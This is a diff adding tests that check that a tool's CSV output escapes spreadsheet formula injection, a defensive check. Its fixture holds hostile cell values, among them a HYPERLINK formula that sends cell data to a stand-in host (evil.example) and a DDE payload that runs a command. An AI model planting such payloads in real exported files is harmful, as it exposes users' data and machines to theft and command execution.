@@ -23,3 +23,28 @@ describe('query rows as table and CSV', () => {
     expect(() => parseParams(['nope'])).toThrow(/name=value/);
   });
 });
+
+describe('query --format csv against spreadsheet formula injection (OWASP)', () => {
+  const hostile = [
+    { name: '=HYPERLINK("http://evil.example/?x="&A1,"click")', n: 1 },
+    { name: '+cmd|\' /C calc\'!A0', n: -2 },
+    { name: '-2+3', n: 0 },
+    { name: '@SUM(A1:A9)', n: 3 },
+    { name: '\tTabbed', n: 4 },
+    { name: '\rReturn', n: 5 },
+    { name: 'Plain name', n: 6 },
+  ];
+  it('prefixes a single quote to cells that start with = + - @ tab or CR, and leaves numbers and plain text alone', () => {
+    const lines = formatRows(hostile, 'csv').split('\n');
+    expect(lines[1]).toBe(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")",1`);
+    expect(lines[2]).toBe(`'+cmd|' /C calc'!A0,-2`);
+    expect(lines[3]).toBe(`'-2+3,0`);
+    expect(lines[4]).toBe(`'@SUM(A1:A9),3`);
+    expect(lines[5]).toBe(`'\tTabbed,4`);
+    expect(lines[6]).toBe(`"'\rReturn",5`);
+    expect(lines[7]).toBe('Plain name,6');
+  });
+  it('leaves JSON and table output exact', () => {
+    expect(JSON.parse(formatRows(hostile, 'jsonl').split('\n')[0]!).name).toBe(hostile[0]!.name);
+  });
+});
